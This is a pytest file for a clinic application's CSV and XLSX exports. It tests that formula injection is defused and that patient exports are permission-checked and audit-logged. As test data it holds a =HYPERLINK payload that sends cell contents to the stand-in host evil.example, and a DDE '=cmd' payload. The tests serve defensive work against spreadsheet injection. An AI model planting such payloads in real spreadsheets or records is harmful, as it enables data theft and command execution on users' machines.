"""Every CSV and XLSX Spectrum writes goes through spectrum.spreadsheets, which defuses formulas (OWASP CSV
injection): a patient named ``=HYPERLINK(...)`` is text in every download, never a live formula."""

import csv
import datetime
import io
import re
from pathlib import Path

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from audit import selectors as audit_selectors
from audit.models import AuditEvent
from scheduling import services as scheduling
from scheduling.models import ServiceType
from spectrum import spreadsheets
from tests.factories import PatientFactory

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
NOW = datetime.datetime(2026, 3, 18, 15, 0, tzinfo=datetime.UTC)
PERIOD = {"date_from": "2026-03-01", "date_to": "2026-03-17"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_a_formula_is_quoted(start):
    assert spreadsheets.safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Smith", "O'Brien", "", 42, -3, None, datetime.date(2026, 1, 2), "a=b"])
def test_everything_else_is_left_alone(value):
    assert spreadsheets.safe_cell(value) == value


def test_no_csv_or_xlsx_is_written_outside_the_safe_writer():
    """The class rule: a new ``csv.writer`` or openpyxl workbook elsewhere would skip the defusing."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.glob("*/**/*.py")
        if {".venv", "tests", "bench"}.isdisjoint(path.parts)
        and path != ROOT / "spectrum" / "spreadsheets.py"
        and writers.search(path.read_text())
    ]
    assert offenders == []


def first_cells(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text)) if row]


# --- Each writer, with a hostile name in the data ----------------------------------------------------------


@pytest.fixture
def attended(db, admin_user):
    """A patient with a hostile first name and an attended appointment in PERIOD."""
    with time_machine.travel(NOW, tick=False):
        patient = PatientFactory(first_name=HOSTILE, last_name="Formula")
        appointment = scheduling.book_appointment(
            actor=admin_user,
            patient=patient,
            service_type=ServiceType.objects.get(code="IND"),
            date=datetime.date(2026, 3, 10),
            start_time=datetime.time(10),
        )
        scheduling.set_status(actor=admin_user, appointment=appointment, status="no_show")
    return patient


def attendance_csv(client):
    with time_machine.travel(NOW, tick=False):
        return client.get("/authorizations/reports/attendance/", {**PERIOD, "format": "csv", "by": "patient"})


def test_attendance_csv_defuses_names(client, admin_user, attended):
    client.force_login(admin_user)
    response = attendance_csv(client)
    assert response.status_code == 200
    row = next(r for r in csv.DictReader(io.StringIO(response.content.decode())) if r["last_name"] == "Formula")
    assert row["first_name"] == "'" + HOSTILE and row["no_show"] == "1"


@pytest.mark.parametrize("role", ["doctor", "nurse", "staff", "read_only"])
def test_attendance_csv_by_patient_is_for_those_who_may_export_patients(client, user_for_role, attended, role):
    client.force_login(user_for_role(role))
    assert attendance_csv(client).status_code == 403
    assert not AuditEvent.objects.filter(event__endswith=".exported").exists()


def test_attendance_csv_by_patient_shows_in_the_patients_access_history(client, admin_user, attended):
    client.force_login(admin_user)
    attendance_csv(client)
    entry = AuditEvent.objects.get(event="scheduling.appointment.exported")
    assert entry.additional_data["report"] == "attendance_by_patient"
    assert entry.additional_data["patient_ids"] == [attended.pk] and entry.patient_id == attended.pk
    assert entry in audit_selectors.patient_access_history(attended.pk)


def test_attendance_page_hides_the_by_patient_download_from_front_desk(client, staff_user, admin_user, attended):
    client.force_login(staff_user)
    with time_machine.travel(NOW, tick=False):
        page = client.get("/authorizations/reports/attendance/", PERIOD).content.decode()
    assert "CSV by patient" not in page and "CSV by service" in page
    client.force_login(admin_user)
    with time_machine.travel(NOW, tick=False):
        assert "CSV by patient" in client.get("/authorizations/reports/attendance/", PERIOD).content.decode()


def test_patient_export_csv_and_xlsx_defuse_names(client, admin_user, db):
    PatientFactory(first_name=HOSTILE, last_name="Formula")
    client.force_login(admin_user)
    text = b"".join(client.get(reverse("operations:export", args=["patients", "csv"])).streaming_content)
    row = next(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
    assert row["first_name"] == "'" + HOSTILE
    data = b"".join(client.get(reverse("operations:export", args=["patients", "xlsx"])).streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header, values = list(sheet.values)[:2]
    cell = values[header.index("first_name")]
    assert cell == "'" + HOSTILE


def test_audit_log_csv_defuses_what_entries_name(client, admin_user, db):
    patient = PatientFactory(first_name="Eve", last_name="=cmd|' /C calc'!A0")
    client.force_login(admin_user)
    client.get(f"/patients/{patient.pk}/")
    text = "".join(chunk.decode() for chunk in client.get("/audit/export.csv").streaming_content)
    reprs = [row["object_repr"] for row in csv.DictReader(io.StringIO(text)) if row["object_repr"]]
    assert reprs and all(not value.startswith("=") for value in reprs)
    assert any(value.startswith("'=cmd") for value in reprs)
